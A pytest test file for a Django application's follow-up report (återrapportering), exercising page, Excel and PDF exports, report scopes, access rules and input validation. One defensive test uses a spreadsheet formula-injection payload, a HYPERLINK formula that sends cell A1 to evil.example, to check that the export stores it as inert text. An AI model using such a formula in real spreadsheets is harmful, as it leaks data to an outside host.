"""The återrapportering (issue 20, item 2): the report of a commissioner, a unit or a group over
a period, with deviations and decisions made through the real services, as a page, Excel and
PDF; only assignments the reader may read."""

import datetime as dt
import io

import pdfplumber
import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from assignments.models import Assignment, Group, OrgUnit, User
from reports import export_report, report
from reports.rows import Scope
from tests.factories import (
    AssignmentFactory,
    GroupFactory,
    MilestoneFactory,
    UserFactory,
)
from tests.seeding import load_demo
from workflow import services

pytestmark = pytest.mark.django_db

YEAR_2025 = (dt.date(2025, 1, 1), dt.date(2025, 12, 31))
TODAY = dt.date(2026, 1, 15)
MOVE_REASON = "Seminarierna drog ut på tiden"
RETURN_COMMENT = "Förtydliga beslutsvägarna mellan förvaltningarna"


def at(day: dt.date, hour: int = 10) -> dt.datetime:
    return dt.datetime.combine(day, dt.time(hour), tzinfo=dt.UTC)


def person(username: str) -> User:
    return User.objects.get(username=username)


@pytest.fixture
def clock():
    with time_machine.travel(at(dt.date(2025, 10, 1)), tick=False) as traveller:
        yield traveller


@pytest.fixture
def seed004(db, clock):
    """RS 2024-05699 adopted on 1 Oct 2025, then worked on and decided through the process's
    services, with every kind of deviation on the way:
    - "Resurssättning" (due 31 Aug) done 1 Oct, "Seminarier" (due 31 Oct) done 14 Nov: late;
    - "Sammanställning" moved from 30 Nov to 15 Dec, with a reason, done 4 Dec;
    - the final delivery (due 1 Dec) submitted 5 Dec: late; returned 8 Dec by Per Albertsson
      with a comment; submitted again 15 Dec and approved by both 16 Dec: decided."""
    load_demo("--seed-only")
    seed = Assignment.objects.get(registration_number="RS 2024-05699", state="adopted")
    jan, anders, per = (
        person("jan.strang"),
        person("anders.kullbratt"),
        person("per.albertsson"),
    )
    milestones = {m.kind: m for m in seed.milestones.all()}

    def finish(milestone):
        services.change_milestone_status(milestone=milestone, actor=jan, to_status="in_progress")
        services.change_milestone_status(milestone=milestone, actor=jan, to_status="done")

    finish(milestones["resource_allocation"])
    services.move_milestone_due(
        milestone=milestones["compilation"],
        actor=jan,
        new_due=dt.date(2025, 12, 15),
        reason=MOVE_REASON,
    )
    clock.move_to(at(dt.date(2025, 11, 14)))
    finish(milestones["seminars"])
    clock.move_to(at(dt.date(2025, 12, 4)))
    finish(milestones["compilation"])
    clock.move_to(at(dt.date(2025, 12, 5)))
    first = services.submit_delivery(assignment=seed, actor=jan, summary="Förslag")
    clock.move_to(at(dt.date(2025, 12, 8)))
    services.return_delivery(delivery=first, decided_by=per, comment=RETURN_COMMENT)
    clock.move_to(at(dt.date(2025, 12, 15)))
    second = services.submit_delivery(assignment=seed, actor=jan, summary="Reviderat förslag")
    clock.move_to(at(dt.date(2025, 12, 16)))
    services.approve_delivery(delivery=second, decided_by=per, paragraph_reference="§ 14")
    services.approve_delivery(delivery=second, decided_by=anders)
    seed.refresh_from_db()
    assert seed.state == Assignment.State.DECIDED
    clock.move_to(at(TODAY))
    return seed


def anders_2025():
    anders = person("anders.kullbratt")
    return report.build(anders, Scope("commissioner", anders), *YEAR_2025, today=TODAY)


def test_anders_kullbratts_2025_report_lists_rs_2024_05699_with_its_deviations(seed004):
    built = anders_2025()
    (entry,) = [a for a in built.assignments if a.assignment.pk == seed004.pk]
    assert entry.assignment.state == Assignment.State.DECIDED
    deviations = {(d.kind, d.what.split()[0]): d for d in entry.deviations}
    assert sorted(deviations) == [
        ("late_delivery", "Slutleverans"),
        ("late_milestone", "Genomförande"),
        ("late_milestone", "Resurssättning"),
        ("moved", "Sammanställning"),
        ("returned", "Slutleverans"),
    ]
    moved = deviations["moved", "Sammanställning"]
    assert (moved.on, moved.reason, moved.by) == (dt.date(2025, 10, 1), MOVE_REASON, "Jan Sträng")
    assert moved.detail == "från 2025-11-30 till 2025-12-15"
    returned = deviations["returned", "Slutleverans"]
    assert (returned.on, returned.reason, returned.by) == (
        dt.date(2025, 12, 8),
        RETURN_COMMENT,
        "Per Albertsson",
    )
    assert "4 dagar sent" in deviations["late_delivery", "Slutleverans"].detail
    seminars = next(r for r in entry.milestones if r.milestone.kind == "seminars")
    assert (seminars.done_on, seminars.late_days) == (dt.date(2025, 11, 14), 14)
    compilation = next(r for r in entry.milestones if r.milestone.kind == "compilation")
    assert (compilation.registered_due, compilation.milestone.due) == (
        dt.date(2025, 11, 30),
        dt.date(2025, 12, 15),
    )
    assert not compilation.is_late  # done before its moved due date
    assert [(d.on, d.decision_maker, d.outcome) for d in entry.decisions] == [
        (dt.date(2025, 10, 1), "Anders Kullbratt", "Uppdraget fastställt"),  # load_demo adopts
        (dt.date(2025, 12, 8), "Per Albertsson", "Slutleverans 1: Återremitterad"),
        (dt.date(2025, 12, 16), "Per Albertsson", "Slutleverans 2: Godkänd (beslut 2025-12-16)"),
        (dt.date(2025, 12, 16), "Anders Kullbratt", "Slutleverans 2: Godkänd (beslut 2025-12-16)"),
    ]


def _get(client, user, **params):
    client.force_login(user)
    return client.get(reverse("report"), params)


def test_the_report_opens_in_excel_with_a_sheet_each_for_assignments_deviations_and_decisions(
    seed004, client
):
    anders = person("anders.kullbratt")
    response = _get(client, anders, scope=f"commissioner:{anders.pk}", period="2025", format="xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        'attachment; filename="aterrapportering-2025-01-01-2025-12-31.xlsx"'
    )
    # as private as the assignments in it: kept by no cache, never sniffed into a page
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert response["X-Content-Type-Options"] == "nosniff"
    book = load_workbook(io.BytesIO(downloaded(response)))
    assert book.sheetnames == ["Uppdrag", "Milstolpar", "Avvikelser", "Beslut"]
    assert all(book[name].freeze_panes == "A2" for name in book.sheetnames)
    rows = list(book["Uppdrag"].iter_rows(values_only=True))
    assert rows[0][:3] == ("Diarienummer", "Uppdrag", "Status")
    seed_row = next(r for r in rows if r[0] == "RS 2024-05699" and r[2] == "Beslutad")
    assert seed_row[7] == dt.datetime(2025, 12, 1)  # a date cell, not text
    assert seed_row[8] == dt.datetime(2025, 12, 16)
    deviations = list(book["Avvikelser"].iter_rows(values_only=True))
    assert deviations[0] == (
        "Diarienummer",
        "Uppdrag",
        "Avvikelse",
        "Gäller",
        "Datum",
        "Uppgift",
        "Orsak eller kommentar",
        "Av",
    )
    by_kind = {row[2]: row for row in deviations[1:]}
    assert by_kind["Flyttat slutdatum"][4] == dt.datetime(2025, 10, 1)
    assert by_kind["Flyttat slutdatum"][6] == MOVE_REASON
    assert by_kind["Återremitterad slutleverans"][6] == RETURN_COMMENT
    assert "Försenad milstolpe" in by_kind and "Försenad slutleverans" in by_kind
    decisions = list(book["Beslut"].iter_rows(values_only=True))
    assert ("RS 2024-05699", dt.datetime(2025, 12, 8), "Per Albertsson") in [
        row[:1] + row[2:4] for row in decisions
    ]
    assert book["Uppdrag"]["G2"].is_date


def test_the_report_as_pdf_is_a_board_appendix(seed004, client):
    anders = person("anders.kullbratt")
    response = _get(client, anders, scope=f"commissioner:{anders.pk}", period="2025", format="pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    with pdfplumber.open(io.BytesIO(downloaded(response))) as pdf:
        pages = [page.extract_text() for page in pdf.pages]
        assert all(
            (page.width, page.height) == pytest.approx((595.27, 841.89), abs=1)
            for page in pdf.pages
        )
    text = "\n".join(pages)
    flat = " ".join(text.split())
    assert pages[0].startswith("Återrapportering")
    assert "Omfattning: Uppdragsgivare: Anders Kullbratt" in flat
    assert "Period: 2025-01-01 – 2025-12-31" in flat
    assert "Uttaget: 2026-01-15" in flat
    assert "RS 2024-05699" in flat
    # a narrow column wraps its words among the next column's
    for words in ("Flyttat slutdatum", "Återremitterad", "Försenad", "milstolpe"):
        assert words in flat
    assert "Seminarierna drog ut" in flat and "Förtydliga beslutsvägarna" in flat
    assert f"Sida 1 av {len(pages)}" in pages[0]
    assert f"Sida {len(pages)} av {len(pages)}" in pages[-1]


def test_the_page_shows_the_report_and_links_its_downloads(seed004, client):
    anders = person("anders.kullbratt")
    response = _get(client, anders, scope=f"commissioner:{anders.pk}", period="2025")
    assert response.status_code == 200
    html = response.content.decode()
    assert "RS 2024-05699" in html and RETURN_COMMENT in html and MOVE_REASON in html
    assert "format=xlsx" in html and "format=pdf" in html


def test_a_commissioner_sees_their_own_report_for_this_year_at_first(seed004, client):
    anders = person("anders.kullbratt")
    response = _get(client, anders)
    assert response.status_code == 200
    assert response.context["report"].scope == Scope("commissioner", anders)
    assert response.context["report"].start == dt.date(2026, 1, 1)


def test_the_page_is_in_english_for_an_english_reader(seed004, client):
    anders = person("anders.kullbratt")
    anders.language = "en"
    anders.save()
    response = _get(client, anders, scope=f"commissioner:{anders.pk}", period="2025")
    html = response.content.decode()
    assert "Follow-up report" in html and "Moved due date" in html


# -- scopes --------------------------------------------------------------------------------------


def _registration_numbers(built) -> set[str]:
    return {a.assignment.registration_number for a in built.assignments}


def test_a_unit_report_holds_the_assignments_of_the_unit_and_its_sub_units(seed004):
    registrar = person("registrator")
    region = OrgUnit.objects.get(name="Västra Götalandsregionen")
    elsewhere = OrgUnit.objects.get(name="NU-sjukvården")
    other = AssignmentFactory(issuing_unit=elsewhere, registration_number="RS 2025-00001")
    assert _registration_numbers(
        report.build(registrar, Scope("unit", region), *YEAR_2025, today=TODAY)
    ) == {"RS 2024-05699", other.registration_number}
    assert _registration_numbers(
        report.build(registrar, Scope("unit", elsewhere), *YEAR_2025, today=TODAY)
    ) == {other.registration_number}


def test_a_group_report_holds_the_assignments_carried_out_within_the_group(seed004):
    registrar = person("registrator")
    group = Group.objects.get(name="Samordningsgrupp för vårdinformationsmiljö")
    built = report.build(registrar, Scope("group", group), *YEAR_2025, today=TODAY)
    assert "RS 2024-05699" in _registration_numbers(built)
    assert not report.build(registrar, Scope("group", GroupFactory()), *YEAR_2025).assignments


def test_an_assignment_closed_before_the_period_or_still_a_draft_is_not_in_it(seed004):
    anders = person("anders.kullbratt")
    draft = AssignmentFactory(state=Assignment.State.DRAFT)
    draft.commissioners.add(anders)
    built = report.build(anders, Scope("commissioner", anders), dt.date(2026, 1, 1), TODAY)
    assert draft.pk not in {a.assignment.pk for a in built.assignments}
    assert seed004.pk not in {a.assignment.pk for a in built.assignments}  # decided in 2025


# -- who may see what ----------------------------------------------------------------------------


def test_a_commissioner_cannot_ask_for_another_commissioners_report(seed004, client):
    anders = person("anders.kullbratt")
    other = UserFactory()
    AssignmentFactory().commissioners.add(other)
    for fmt in ("", "xlsx", "pdf"):
        response = _get(client, other, scope=f"commissioner:{anders.pk}", period="2025", format=fmt)
        assert response.status_code == 400
        assert "RS 2024-05699" not in response.content.decode()
        assert "bara ta fram återrapporteringen för dig själv" in response.content.decode()


def test_a_unit_report_leaves_out_what_the_reader_may_not_read(seed004, client):
    other = UserFactory()
    own = AssignmentFactory(issuing_unit=OrgUnit.objects.get(name="Koncernkontoret"))
    own.commissioners.add(other)
    unit = OrgUnit.objects.get(name="Västra Götalandsregionen")
    response = _get(client, other, scope=f"unit:{unit.pk}", period="2025", format="xlsx")
    numbers = [
        row[0]
        for row in load_workbook(io.BytesIO(downloaded(response)))["Uppdrag"].iter_rows(
            min_row=2, values_only=True
        )
    ]
    assert numbers == [own.registration_number]


def test_someone_who_commissions_nothing_may_not_open_the_report(seed004, client):
    assert _get(client, person("jan.strang")).status_code == 403


def test_a_registrar_may_report_on_any_commissioner(seed004, client):
    anders = person("anders.kullbratt")
    response = _get(client, person("registrator"), scope=f"commissioner:{anders.pk}", period="2025")
    assert response.status_code == 200
    assert "RS 2024-05699" in response.content.decode()


@pytest.mark.parametrize(
    "params",
    [
        {"scope": "commissioner:999999", "period": "2025"},
        {"scope": "nonsense", "period": "2025"},
        {"scope": "unit:1", "period": "2025-13"},
        {"scope": "unit:1", "period": "custom", "start": "2025-05-01", "end": "2025-04-01"},
        {"scope": "unit:1", "period": "custom", "start": "igår"},
    ],
)
def test_bad_choices_are_refused_with_a_message(seed004, client, params):
    response = _get(client, person("registrator"), **params)
    assert response.status_code == 400
    assert 'role="alert"' in response.content.decode()


def test_custom_dates_are_used_as_given(seed004, client):
    anders = person("anders.kullbratt")
    response = _get(
        client,
        anders,
        scope=f"commissioner:{anders.pk}",
        period="custom",
        start="2025-12-01",
        end="2025-12-10",
    )
    built = response.context["report"]
    assert (built.start, built.end) == (dt.date(2025, 12, 1), dt.date(2025, 12, 10))
    kinds = {d.kind for d in built.deviations}
    assert "returned" in kinds and "moved" not in kinds  # moved on 1 Oct


# -- the export's text ---------------------------------------------------------------------------


def test_a_title_that_looks_like_a_formula_is_text_in_excel(db):
    commissioner = UserFactory()
    title = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    assignment = AssignmentFactory(title=title)
    assignment.commissioners.add(commissioner)
    MilestoneFactory(assignment=assignment, title="+SUM(1,2)")
    built = report.build(commissioner, Scope("commissioner", commissioner), *YEAR_2025, today=TODAY)
    book = load_workbook(io.BytesIO(export_report.xlsx(built)))
    cell = book["Uppdrag"]["B2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", title, True)
    cell = book["Milstolpar"]["B2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", "+SUM(1,2)", True)


def test_the_report_reads_each_kind_once_however_many_assignments(db):
    commissioner = UserFactory()

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            report.build(commissioner, Scope("commissioner", commissioner), *YEAR_2025, today=TODAY)
        return len(captured)

    AssignmentFactory().commissioners.add(commissioner)
    queries()  # Django's caches (content types) filled
    one = queries()
    for _n in range(15):
        assignment = AssignmentFactory()
        assignment.commissioners.add(commissioner)
        MilestoneFactory.create_batch(3, assignment=assignment)
    assert queries() == one


def downloaded(response) -> bytes:
    """A download's bytes (a FileResponse streams them)."""
    return b"".join(response.streaming_content)


# -- a save that changes nothing (issue 25, reproduction 7) ------------------------------------


def test_a_draft_saved_unchanged_adds_no_moved_due_date_to_the_report(db, client):
    """ "Ändra utkastet" saved as it is, then adopted: the report reads the changes the trail
    records, and none was made, so it reports no "Flyttat slutdatum från X till X"."""
    from tests.registration_helpers import as_shown

    anders = None
    with time_machine.travel(at(dt.date(2025, 8, 20)), tick=False):
        load_demo("--draft", "--seed-only")
        draft = Assignment.objects.get(registration_number="RS 2024-05699", state="draft")
        client.force_login(person("registrator"))
        url = reverse("workflow:edit", args=[draft.pk])
        for _ in range(2):
            response = client.post(url, as_shown(client.get(url).context["forms"]))
            assert response.status_code == 302
        anders = person("anders.kullbratt")
        services.adopt_assignment(assignment=draft, actor=anders)

    built = report.build(anders, Scope("commissioner", anders), *YEAR_2025, today=TODAY)
    assert [d.detail for d in built.deviations if d.kind == "moved"] == []
    unchanged = "från 2025-12-01 till 2025-12-01"
    params = {"scope": f"commissioner:{anders.pk}", "period": "2025"}
    page = _get(client, anders, **params).content.decode()
    assert "Resurssättning" in page and unchanged not in page
    book = load_workbook(io.BytesIO(downloaded(_get(client, anders, **params, format="xlsx"))))
    kinds = [row[2] for row in book["Avvikelser"].iter_rows(values_only=True)]
    assert "Försenad milstolpe" in kinds and "Flyttat slutdatum" not in kinds
    pdf = downloaded(_get(client, anders, **params, format="pdf"))
    with pdfplumber.open(io.BytesIO(pdf)) as opened:
        flat = " ".join(" ".join(p.extract_text() for p in opened.pages).split())
    assert "RS 2024-05699" in flat and "Flyttat slutdatum" not in flat
